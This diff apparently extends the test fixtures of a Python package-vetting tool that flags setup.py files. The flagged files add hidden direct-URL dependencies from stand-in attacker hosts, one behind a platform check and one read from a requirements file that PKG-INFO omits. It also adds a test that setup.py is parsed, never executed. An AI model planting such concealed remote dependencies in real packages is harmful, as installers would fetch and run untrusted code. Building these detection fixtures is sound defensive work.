@@ -150,6 +150,23 @@ FIXTURES: dict[str, Fixture] = {
                         "setup(name='metrics-shim', install_requires=BASE + EXTRA)\n",
         }, "Requires-Dist: requests>=2\n"),
         Verdict.MALICIOUS, "PV517"),
+    # Appended under a platform test, after the setup() arguments were written.
+    "setup_py_append_direct_url_under_if": fx(
+        _sdist("fast-cache-kit", {
+            "setup.py": "import sys\nfrom setuptools import setup\nREQS = ['click']\n"
+                        "if sys.platform != 'win32':\n"
+                        "    REQS.append('agent @ https://dl.attacker.invalid/agent-2.tar.gz')\n"
+                        "setup(name='fast-cache-kit', install_requires=REQS)\n",
+        }, "Requires-Dist: click\n"),
+        Verdict.MALICIOUS, "PV517"),
+    # Read from a requirements file that setup.py opens; PKG-INFO does not list it.
+    "setup_py_requirements_file_direct_url": fx(
+        _sdist("yaml-fmt-tool", {
+            "setup.py": "from setuptools import setup\n"
+                        "setup(name='yaml-fmt-tool', install_requires=open('requirements.txt').read().splitlines())\n",
+            "requirements.txt": "pyyaml>=6\nhelper @ http://198.51.100.20/helper-1.0.whl\n",
+        }, "Requires-Dist: pyyaml>=6\n"),
+        Verdict.MALICIOUS, "PV517"),
     # Declared openly in pyproject: a VCS dependency on an unknown host.
     "pyproject_vcs_dependency_unknown_host": fx(
         _sdist("plain-client", {
@@ -213,6 +230,15 @@ FIXTURES: dict[str, Fixture] = {
                               'dev = ["linttool @ git+https://github.com/example/linttool.git@v1"]\n',
         }),
         Verdict.BENIGN, "PV515 PV516"),
+    # setup.py reads requirements through a helper; a VCS pin on GitHub among them.
+    "benign_setup_py_requirements_helper_github_pin": fx(
+        _sdist("notes-sync", {
+            "setup.py": "from setuptools import setup\n\ndef reqs(name):\n"
+                        "    return [l for l in open(name).read().splitlines() if l and not l.startswith('#')]\n\n"
+                        "setup(name='notes-sync', install_requires=reqs('requirements.txt'))\n",
+            "requirements.txt": "# pinned\nrequests>=2\n-e git+https://github.com/example/mdparse.git@v2#egg=mdparse\n",
+        }, "Requires-Dist: requests>=2\n"),
+        Verdict.BENIGN, "PV517"),
     # setup.py computes its dependencies; PKG-INFO lists the same; man pages and a
     # distinctive script go through data_files and scripts.
     "benign_setup_py_declared_deps_and_man_pages": fx(
@@ -276,3 +302,15 @@ def test_command_names_fold_versions_and_suffixes() -> None:
 ])
 def test_host_classes(url: str, cls: str) -> None:
     assert host_class(url) == cls
+
+
+def test_setup_py_is_read_as_data_never_run() -> None:
+    from pkgvet.declared import setup_py_keywords
+
+    text = ("import os\nBASE = ['a']\nBASE += ['b']\nKW = dict(name='x')\nKW['scripts'] = ['bin/git']\n"
+            "os.system('echo never-run')\nsetup(install_requires=BASE, extras_require=compute(), **KW)\n")
+    keywords, partial = setup_py_keywords(text)
+    assert keywords["install_requires"][0] == ["a", "b"]
+    assert keywords["scripts"][0] == ["bin/git"]
+    assert partial  # extras_require is computed: unknown, not guessed
+    assert setup_py_keywords("(" * 5000)[1]  # hostile nesting: partial, no crash
